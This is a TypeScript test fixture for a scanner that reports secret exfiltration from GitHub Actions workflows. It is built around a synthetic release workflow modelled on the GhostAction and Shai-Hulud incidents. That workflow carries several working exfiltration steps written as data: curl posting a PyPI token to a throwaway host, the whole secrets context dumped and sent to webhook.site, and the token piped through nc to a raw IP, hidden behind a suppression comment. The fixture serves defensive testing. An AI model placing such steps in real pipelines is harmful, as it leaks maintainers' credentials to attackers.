/**
 * Hand-built findings for the report tests, modelled on public incidents (GhostAction, Shai-Hulud) and on
 * ordinary release workflows. Line numbers are looked up in the workflow text below, so they stay true.
 */
import type { FileResult, ScanResult } from '../../src/analysis/api.js';
import type { Finding, Location } from '../../src/analysis/types.js';
import type { ReportInput, RuleInfo } from '../../src/report/types.js';

export const WORKFLOW_PATH = '.github/workflows/release.yml';

export const WORKFLOW_SOURCE = `name: Release
on:
  push:
    tags: ['v*']

permissions:
  contents: read

jobs:
  publish:
    runs-on: ubuntu-latest
    env:
      T: \${{ secrets.PYPI_API_TOKEN }}
      AWS_SECRET_ACCESS_KEY: \${{ secrets.AWS_SECRET_ACCESS_KEY }}
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: '3.12'
      - name: Build
        run: python -m build
      - name: Upload
        uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: \${{ secrets.PYPI_API_TOKEN }}
      - name: Run
        run: |
          pip install twine
          echo "uploading"
          curl -s -d "token=$T" https://bold-dhawan.45-139-104-115.plesk.page/collect
      - name: Mirror
        run: |
          curl -s -H "Authorization: $NPM_TOKEN" "https://$REGISTRY_HOST/upload"
        env:
          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      - name: Backup
        run: |
          echo '\${{ toJSON(secrets) }}' > s.json
          curl -s -X POST --data @s.json https://webhook.site/6e5d-4c3b
        shell: bash
        continue-on-error: true
      - name: Deploy
        run: |
          curl -s -u "ci:$AWS_SECRET_ACCESS_KEY" https://deploy.example.net/release
      - name: Notify
        uses: someone/notify-action@v1
        with:
          token: \${{ secrets.SLACK_TOKEN }}
      - name: Legacy
        run: printf "$T" | nc 45.139.104.115 4444 # exfil-guard: ignore[secret-to-ip-literal] decommissioned host, removed in #412
`;

const LINES = WORKFLOW_SOURCE.split('\n');

/** 1-based line of the first line containing `needle`, and the 1-based column where it starts. */
export function at(needle: string, file = WORKFLOW_PATH, length = needle.length): Location {
  const index = LINES.findIndex((l) => l.includes(needle));
  if (index < 0) throw new Error(`fixture text not found: ${needle}`);
  const column = (LINES[index] ?? '').indexOf(needle) + 1;
  return { file, line: index + 1, column, endLine: index + 1, endColumn: column + length - 1 };
}

export function finding(overrides: Partial<Finding> & Pick<Finding, 'rule'>): Finding {
  const location = overrides.location ?? at('curl -s -d');
  return {
    severity: 'error',
    confidence: 'high',
    message: 'a finding',
    location,
    job: 'publish',
    step: 4,
    stepName: 'Run',
    secrets: [],
    destinations: [],
    evidence: [],
    fix: 'Remove the step.',
    fingerprint: `${overrides.rule}|${location.file}|${overrides.job ?? 'publish'}|${overrides.stepName ?? 'Run'}|${(overrides.secrets ?? []).join(',')}|${(overrides.destinations ?? []).join(',')}`,
    ...overrides,
  };
}

/** GhostAction: the PyPI token posted to a throwaway host. */
export const ghostAction = finding({
  rule: 'secret-to-exfil-service',
  message: 'PYPI_API_TOKEN is sent to bold-dhawan.45-139-104-115.plesk.page by curl (step "Run", line 30)',
  location: at('curl -s -d "token=$T" https://bold-dhawan.45-139-104-115.plesk.page/collect'),
  source: at('secrets.PYPI_API_TOKEN'),
  step: 4,
  stepName: 'Run',
  secrets: ['PYPI_API_TOKEN'],
  destinations: ['bold-dhawan.45-139-104-115.plesk.page'],
  evidence: [
    { text: 'secrets.PYPI_API_TOKEN', location: at('secrets.PYPI_API_TOKEN') },
    { text: 'env T (job env, line 13)', location: at('T: ${{') },
    { text: 'curl -d (line 30)', location: at('curl -s -d') },
    { text: 'bold-dhawan.45-139-104-115.plesk.page' },
  ],
  fix: 'Remove the step; rotate PYPI_API_TOKEN and move to Trusted Publishing.',
});

export const deploy = finding({
  rule: 'secret-to-unlisted-host',
  message: 'AWS_SECRET_ACCESS_KEY is sent to deploy.example.net by curl (step "Deploy", line 44)',
  location: at('curl -s -u "ci:$AWS_SECRET_ACCESS_KEY"'),
  source: at('secrets.AWS_SECRET_ACCESS_KEY'),
  step: 7,
  stepName: 'Deploy',
  secrets: ['AWS_SECRET_ACCESS_KEY'],
  destinations: ['deploy.example.net'],
  evidence: [
    { text: 'secrets.AWS_SECRET_ACCESS_KEY', location: at('secrets.AWS_SECRET_ACCESS_KEY') },
    { text: 'env AWS_SECRET_ACCESS_KEY (job env, line 14)', location: at('AWS_SECRET_ACCESS_KEY: ${{') },
    { text: 'curl -u (line 44)', location: at('curl -s -u') },
    { text: 'deploy.example.net' },
  ],
  fix: 'Add deploy.example.net to allowed-endpoints if it is yours; otherwise remove the step.',
});

/** Shai-Hulud: every secret serialised and posted to a request bin. */
export const shaiHulud = finding({
  rule: 'secrets-context-dump',
  message: 'All secrets (toJSON(secrets)) are sent to webhook.site by curl (step "Backup", line 39)',
  location: at('curl -s -X POST --data @s.json'),
  source: at("echo '${{ toJSON(secrets) }}'"),
  step: 6,
  stepName: 'Backup',
  secrets: ['secrets (all)'],
  destinations: ['webhook.site'],
  evidence: [
    { text: 'toJSON(secrets)', location: at('toJSON(secrets)') },
    { text: 'file s.json (line 38)', location: at('> s.json') },
    { text: 'curl --data @s.json (line 39)', location: at('curl -s -X POST') },
    { text: 'webhook.site' },
  ],
  fix: 'Never serialise the secrets context; pass each secret to the step that needs it.',
});

export const unknownHost = finding({
  rule: 'secret-to-unlisted-host',
  severity: 'warning',
  confidence: 'medium',
  message:
    'NPM_TOKEN is sent to a host computed at run time ($REGISTRY_HOST) by curl (step "Mirror", line 33)',
  location: at('curl -s -H "Authorization: $NPM_TOKEN"'),
  step: 5,
  stepName: 'Mirror',
  secrets: ['NPM_TOKEN'],
  destinations: ['$REGISTRY_HOST'],
  evidence: [
    { text: 'secrets.NPM_TOKEN', location: at('secrets.NPM_TOKEN') },
    { text: 'curl -H (line 33)', location: at('curl -s -H') },
    { text: '$REGISTRY_HOST' },
  ],
  fix: 'Make the destination a literal host and allow it, or allow the secret per host in the config file.',
});

export const uncatalogued = finding({
  rule: 'uncatalogued-action-with-secret',
  severity: 'warning',
  message:
    'SLACK_TOKEN is passed to someone/notify-action@v1, which is not pinned to a commit and not catalogued',
  location: at('uses: someone/notify-action@v1'),
  step: 8,
  stepName: 'Notify',
  secrets: ['SLACK_TOKEN'],
  evidence: [{ text: 'secrets.SLACK_TOKEN', location: at('secrets.SLACK_TOKEN') }],
  fix: 'Pin the action to a full commit SHA and review where it sends the token.',
});

export const trustedPublishing = finding({
  rule: 'trusted-publishing',
  severity: 'note',
  message: 'PYPI_API_TOKEN is a long-lived upload token; PyPI Trusted Publishing (OIDC) needs none',
  location: at('password: ${{ secrets.PYPI_API_TOKEN }}'),
  step: 3,
  stepName: 'Upload',
  secrets: ['PYPI_API_TOKEN'],
  destinations: ['upload.pypi.org'],
  evidence: [
    { text: 'secrets.PYPI_API_TOKEN', location: at('password: ${{') },
    { text: 'pypa/gh-action-pypi-publish (line 23)' },
    { text: 'upload.pypi.org' },
  ],
  fix: 'Configure a trusted publisher on PyPI and drop the password input.',
});

export const suppressedIp = finding({
  rule: 'secret-to-ip-literal',
  message: 'PYPI_API_TOKEN is sent to 45.139.104.115 by nc (step "Legacy", line 50)',
  location: at('nc 45.139.104.115 4444'),
  step: 9,
  stepName: 'Legacy',
  secrets: ['PYPI_API_TOKEN'],
  destinations: ['45.139.104.115'],
  evidence: [{ text: 'secrets.PYPI_API_TOKEN' }, { text: 'nc (line 50)' }, { text: '45.139.104.115' }],
  suppressed: { reason: 'decommissioned host, removed in #412', by: 'comment' },
});

export const allFindings: Finding[] = [
  trustedPublishing,
  deploy,
  uncatalogued,
  ghostAction,
  suppressedIp,
  unknownHost,
  shaiHulud,
];

export const rules: RuleInfo[] = [
  {
    id: 'secret-to-exfil-service',
    title: 'Secret sent to a known exfiltration service',
    severity: 'error',
    rationale: 'GhostAction sent 3,325 secrets to request bins and throwaway hosts.',
    fix: 'Remove the step and rotate the secret.',
  },
  {
    id: 'secret-to-unlisted-host',
    title: 'Secret sent to a host the policy does not allow',
    severity: 'error',
    rationale: 'A secret may only reach its issuer or a host the policy lists.',
    fix: 'Allow the host, or stop sending the secret there.',
  },
  {
    id: 'secrets-context-dump',
    title: 'Whole secrets context serialised',
    severity: 'error',
    rationale: 'Shai-Hulud posted toJSON(secrets) to webhook.site.',
    fix: 'Pass each secret explicitly.',
  },
  {
    id: 'secret-to-ip-literal',
    title: 'Secret sent to an IP address',
    severity: 'error',
    rationale: 'Legitimate services have names.',
    fix: 'Use a host name that the policy allows.',
  },
  {
    id: 'uncatalogued-action-with-secret',
    title: 'Secret passed to an action outside the catalogue',
    severity: 'warning',
    rationale: 'tj-actions/changed-files was repointed to a payload that dumped runner memory.',
    fix: 'Pin and review the action.',
  },
  {
    id: 'trusted-publishing',
    title: 'Long-lived publish token',
    severity: 'note',
    rationale: 'PyPI recommended Trusted Publishing after GhostAction.',
    fix: 'Use OIDC.',
  },
];

export function scan(
  findings: Finding[] = allFindings,
  files: FileResult[] = [{ path: WORKFLOW_PATH, error: null }],
): ScanResult {
  return { files, findings };
}

export function input(overrides: Partial<ReportInput> = {}): ReportInput {
  return {
    result: scan(),
    failOn: 'error',
    rules,
    sources: new Map([[WORKFLOW_PATH, WORKFLOW_SOURCE]]),
    ...overrides,
  };
}

/** `count` error findings spread over `steps` steps, each a distinct flow. */
export function manyErrors(count: number, steps = 1): Finding[] {
  return Array.from({ length: count }, (_, i) =>
    finding({
      rule: 'secret-to-unlisted-host',
      message: `TOKEN_${i} is sent to host-${i}.example.com by curl`,
      location: { file: WORKFLOW_PATH, line: 100 + i, column: 9, endLine: 100 + i, endColumn: 40 },
      step: i % steps,
      stepName: `Step ${i % steps}`,
      secrets: [`TOKEN_${i}`],
      destinations: [`host-${i}.example.com`],
      fingerprint: `fp-${i}`,
    }),
  );
}
